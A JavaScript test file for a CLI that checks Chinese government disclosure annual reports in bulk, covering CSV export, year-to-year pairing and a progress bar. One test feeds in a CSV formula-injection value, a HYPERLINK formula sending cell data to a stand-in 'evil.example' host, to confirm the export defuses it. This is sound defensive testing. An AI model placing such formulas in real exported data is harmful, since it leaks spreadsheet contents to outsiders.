// `nianbao check DIR`: many reports on a pool of threads, the summary, the CSV, and pairing each
// report with last year's (--previous-dir).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { progressBar } from '../../bin/lib/progress.mjs';
import { BIN, run, write } from '../support/cli.mjs';
import { data, edited as report } from '../support/reports.mjs';

const LONGDE_TXT = readFileSync(data('longde-2024.txt'), 'utf8');

let root;
let reports; // the directory to check in bulk
const path = {};

before(() => {
  root = mkdtempSync(join(tmpdir(), 'nianbao-bulk-'));
  reports = join(root, 'reports');
  // 40 copies in two folders, enough for every thread of the pool to take many:
  // 12 with a mistyped cell (two sum errors each), 8 with a blank cell, 5 whose fee has too
  // many decimals (a warning), 15 good.
  for (let i = 0; i < 40; i++) {
    const edit =
      i < 12 ? (r) => { r.requests.disclosed.natural_person = 12; }
      : i < 20 ? (r) => { r.requests.disclosed.research = null; }
      : i < 25 ? (r) => { r.proactive.fees.amount = '611.12812'; }
      : () => {};
    const name = `${String(i).padStart(2, '0')}.json`;
    write(join(reports, i < 20 ? 'a' : 'b', name), report(edit, { issuer: `县${i}` }));
  }
  // A name that needs quoting in the CSV, with a warning so that it has a row.
  path.quoted = write(join(reports, 'a,b "q".json'), report((r) => { r.proactive.normative_documents.issued = 20; }));
  write(join(reports, 'odd', 'not-a-number.json'), report((r) => { r.proactive.licensing.decisions = '十二'; }));
  write(join(reports, 'odd', 'unknown-key.json'), report((r) => { r.remarks = 'x'; }));
  path.txt = write(join(reports, 'published', 'longde-2024.txt'), LONGDE_TXT);
  // A directory named like a report file is searched, not read as a file.
  path.inside = write(join(reports, 'folder.json', 'inside.json'), report());
  write(join(reports, 'notes.odt'), 'not a report kind: not searched');
  path.invalid = write(join(reports, 'bad', 'invalid.json'), '{"format": "2021",');
  path.array = write(join(reports, 'bad', 'array.json'), '[]');
  path.empty = write(join(reports, 'bad', 'empty.html'), '');
});

after(() => rmSync(root, { recursive: true, force: true }));

// RFC 4180: fields separated by commas, records by CRLF, quotes doubled inside quoted fields.
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') field += text[i++];
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else field += c;
  }
  assert.ok(!quoted && field === '' && row.length === 0, 'the CSV ends with CRLF, outside quotes');
  return rows;
}

const SUMMARY = '共 48 个文件：22 个有错误，6 个有警告，3 个无法读取。';
const TOP = '最常见的规则：requests.result_total（12），requests.row_total（12），cell.blank（8），fees.precision（5），cell.not_a_number（1）';

test('a directory: every report checked, the unreadable named, the summary and the top rules', () => {
  const r = run('check', reports);
  assert.equal(r.code, 2, 'an unreadable file makes it 2');
  assert.ok(r.stdout.endsWith(`\n${SUMMARY}\n${TOP}\n`), r.stdout.slice(-400));

  // Each report once, in path order; the .odt is not a report kind.
  const checked = r.stdout.match(/^\S.*$/gm).slice(0, -2); // file lines, without the summary
  assert.equal(checked.length, 45);
  assert.deepEqual(checked, [...checked].sort());
  assert.ok(checked.includes(path.inside) && checked.includes(path.txt) && checked.includes(path.quoted));
  assert.ok(!r.stdout.includes('notes.odt'));

  const problems = r.stderr.trimEnd().split('\n');
  assert.deepEqual(problems, [
    `nianbao: ${path.array}: not a report: the file holds an array, not a JSON object`,
    `nianbao: ${path.empty}: empty file`,
    `nianbao: ${path.invalid}: not valid JSON: ${problems[2].split('not valid JSON: ')[1]}`,
  ]);
  assert.ok(!r.stderr.includes('\r') && !r.stdout.includes('\r'), 'no progress bar when stderr is piped');
});

test('the same output whatever the number of threads and the order they finish in', () => {
  const one = run('check', reports, '--jobs', '1');
  for (const jobs of ['2', '4']) {
    const many = run('check', reports, '--jobs', jobs);
    assert.equal(many.stdout, one.stdout, `--jobs ${jobs}`);
    assert.equal(many.stderr, one.stderr, `--jobs ${jobs}`);
    assert.equal(many.code, one.code);
  }
});

test('--csv: one row per finding, RFC 4180, UTF-8 with BOM, the same findings as --json', () => {
  const csv = join(root, 'findings.csv');
  const r = run('check', reports, '--json', '--csv', csv);
  assert.equal(r.code, 2);
  const results = JSON.parse(r.stdout);
  assert.equal(results.length, 45);
  const bytes = readFileSync(csv);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');

  const [header, ...rows] = parseCsv(bytes.toString('utf8').slice(1));
  assert.deepEqual(header, ['file', 'issuer', 'year', 'rule', 'severity', 'cells', 'expected', 'actual', 'message']);
  const findings = results.flatMap((x) => x.findings.map((f) => ({ x, f })));
  assert.equal(rows.length, findings.length);
  assert.equal(rows.length, 12 * 2 + 8 + 5 + 3);
  rows.forEach((row, i) => {
    const { x, f } = findings[i];
    assert.deepEqual(row, [x.file, x.issuer, String(x.year), f.rule, f.severity, f.cells.join(' '),
      f.expected ?? '', f.actual ?? '', f.message]);
  });
  const quoted = rows.find((row) => row[0] === path.quoted);
  assert.deepEqual(quoted.slice(3, 8), ['proactive.in_force_floor', 'warning',
    'proactive.normative_documents.in_force proactive.normative_documents.issued proactive.normative_documents.repealed', '18', '14']);
  assert.match(quoted[8], /现行有效/);

  run('check', reports, '--csv', csv, '--lang', 'en');
  const en = parseCsv(readFileSync(csv, 'utf8').slice(1));
  assert.equal(en.length, rows.length + 1);
  assert.match(en.find((row) => row[0] === path.quoted)[8], /in force/);
});

test('--csv: an issuer or file name shaped like a formula is text in a spreadsheet; numbers stay numbers', () => {
  const dir = join(root, 'formula');
  const issuer = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
  write(join(dir, '@SUM(1+1).json'), report((r) => { r.requests.disclosed.natural_person = -1; }, { issuer }));
  const csv = join(root, 'formula.csv');
  // Checked from inside the folder, the file name is relative and starts with @.
  const r = spawnSync(process.execPath, [BIN, 'check', '.', '--csv', csv], { cwd: dir, encoding: 'utf8' });
  assert.equal(r.status, 1, r.stderr);
  const [, ...rows] = parseCsv(readFileSync(csv, 'utf8').slice(1));
  assert.ok(rows.length > 0);
  for (const row of rows) assert.deepEqual(row.slice(0, 2), ["'@SUM(1+1).json", `'${issuer}`]);
  // The mistyped -1 is reported as a plain number, not as text.
  assert.ok(rows.some((row) => row[7] === '-1'), JSON.stringify(rows.map((row) => row.slice(3, 8))));
  // Every field that starts with a formula character is a defused text or a plain number.
  for (const value of rows.flat()) {
    if (/^[=+\-@\t\r]/.test(value)) assert.match(value, /^[-+]?\d+(\.\d+)?$/, value);
  }
});

test('--csv to a place that cannot be written: exit 2 with the reason', () => {
  const r = run('check', path.inside, '--csv', join(root, 'no', 'such', 'dir.csv'));
  assert.equal(r.code, 2);
  assert.match(r.stderr, /--csv .*dir\.csv: ENOENT/);
});

test('--previous-dir: each report meets last year\'s of its issuer, or is checked alone', () => {
  const now = join(root, 'pair', '2024');
  const last = join(root, 'pair', '2023');
  write(join(now, 'jia.json'), report(() => {}, { issuer: '甲县' }));
  write(join(now, 'longde.txt'), LONGDE_TXT);
  write(join(now, 'bing.json'), report(() => {}, { issuer: '丙县' }));
  // 甲县 carried 3 forward last year (and its name has a stray space, as PDF titles do).
  write(join(last, 'jia-2023.json'), report((r) => {
    r.requests.carried_forward.natural_person = 3;
    r.requests.carried_forward.total = 3;
  }, { issuer: '甲 县', year: 2023 }));
  write(join(last, 'jia-2022.json'), report(() => {}, { issuer: '甲县', year: 2022 }));
  write(join(last, 'more', 'longde-2023.txt'), LONGDE_TXT.replace('隆德县 2024 年', '隆德县 2023 年'));
  write(join(last, 'bing-2024.json'), report(() => {}, { issuer: '丙县', year: 2024 })); // same year: no pair
  write(join(last, 'broken.json'), '{'); // left out quietly

  const r = run('check', now, '--previous-dir', last, '--json');
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stderr, '');
  const byFile = Object.fromEntries(JSON.parse(r.stdout).map((x) => [x.file.slice(now.length + 1), x]));
  assert.equal(byFile['jia.json'].previous, join(last, 'jia-2023.json'));
  assert.equal(byFile['longde.txt'].previous, join(last, 'more', 'longde-2023.txt'));
  assert.equal(byFile['bing.json'].previous, null);
  const rules = (x) => x.findings.map((f) => f.rule);
  assert.deepEqual(rules(byFile['jia.json']), ['cross_year.carried_over', 'cross_year.carried_over', 'cross_year.in_force']);
  assert.ok(rules(byFile['longde.txt']).includes('cross_year.in_force'));
  assert.deepEqual(rules(byFile['bing.json']), []);

  const human = run('check', now, '--previous-dir', last);
  assert.match(human.stdout, /bing\.json\n {2}通过：没有错误，没有警告\n {2}未找到「丙县」2023 年的年报，未作跨年检查/);
  assert.match(human.stdout, /jia\.json\n {2}通过，但有 3 个警告需要确认\n {2}对比上年年报：.*jia-2023\.json/);

  // Both years in one directory: 2024 meets 2023, and nothing is compared with itself.
  const both = run('check', join(root, 'pair'), '--previous-dir', join(root, 'pair'), '--json');
  const pairs = JSON.parse(both.stdout).map((x) => [x.file.slice(root.length + 6), x.previous?.slice(root.length + 6) ?? null]);
  assert.deepEqual(pairs, [
    ['2023/bing-2024.json', null],
    ['2023/jia-2022.json', null],
    ['2023/jia-2023.json', '2023/jia-2022.json'],
    ['2023/more/longde-2023.txt', null],
    ['2024/bing.json', null],
    ['2024/jia.json', '2023/jia-2023.json'],
    ['2024/longde.txt', '2023/more/longde-2023.txt'],
  ]);
  assert.equal(both.code, 2, 'broken.json is checked too, and cannot be read');
});

test('issuers are paired as the core identifies them (issuerKey), in --previous and --previous-dir alike', async () => {
  const { issuerKey } = await import('nianbao');
  const dir = join(root, 'issuer-key');
  // 「丁县 人民政府」 (a title split over lines) and 「丁县\u0085人民政府」 (a NEL, whitespace to the core
  // but not to a JS \s) are the agency 丁县人民政府; 「丁县\uFEFF人民政府」 is not (U+FEFF is no space).
  const same = ['丁县 人民政府', '丁县\u0085人民政府'];
  const other = '丁县\uFEFF人民政府';
  for (const name of same) assert.equal(issuerKey(name), issuerKey('丁县人民政府'), JSON.stringify(name));
  assert.notEqual(issuerKey(other), issuerKey('丁县人民政府'));

  const now = write(join(dir, '2024', 'ding.json'), report(() => {}, { issuer: '丁县人民政府' }));
  const last = (name, file) => write(join(dir, file, 'ding-2023.json'), report(() => {}, { issuer: name, year: 2023 }));
  for (const [i, name] of same.entries()) {
    const file = last(name, `same-${i}`);
    // One report against one: the core finds no mismatch, and neither does the CLI's note.
    const one = run('check', now, '--previous', file);
    assert.equal(one.code, 0, one.stderr);
    assert.doesNotMatch(one.stdout, /注意：/, `${JSON.stringify(name)} is the same issuer`);
    const many = JSON.parse(run('check', now, '--previous-dir', dirname(file), '--json').stdout);
    assert.equal(many[0].previous, file, `${JSON.stringify(name)} is paired`);
  }
  const file = last(other, 'other');
  const one = run('check', now, '--previous', file);
  assert.match(one.stdout, /注意：上年年报是「丁县\uFEFF人民政府」2023 年的/);
  assert.ok(JSON.parse(run('check', now, '--previous', file, '--json').stdout)[0].findings.some((f) => f.rule === 'cross_year.previous'));
  assert.equal(JSON.parse(run('check', now, '--previous-dir', dirname(file), '--json').stdout)[0].previous, null);
});

test('the progress bar: drawn on a terminal, text printed above it, nothing when not a terminal', () => {
  const sink = (isTTY) => ({ isTTY, text: '', write(s) { this.text += s; } });
  const tty = sink(true);
  const out = sink(true);
  const bar = progressBar(3, tty);
  bar.tick();
  assert.equal(tty.text, '\r[##########--------------------] 1/3');
  bar.print(out, 'result\n');
  assert.equal(out.text, 'result\n');
  assert.ok(tty.text.endsWith('\r\x1b[K\r[##########--------------------] 1/3'), 'cleared, then drawn again');
  bar.tick();
  bar.tick(); // the last is always drawn, however soon
  assert.ok(tty.text.endsWith('] 3/3'));
  bar.clear();
  assert.ok(tty.text.endsWith('\r\x1b[K'));

  const piped = sink(false);
  const quiet = progressBar(3, piped);
  quiet.tick();
  quiet.print(piped, 'result\n');
  quiet.clear();
  assert.equal(piped.text, 'result\n');
});
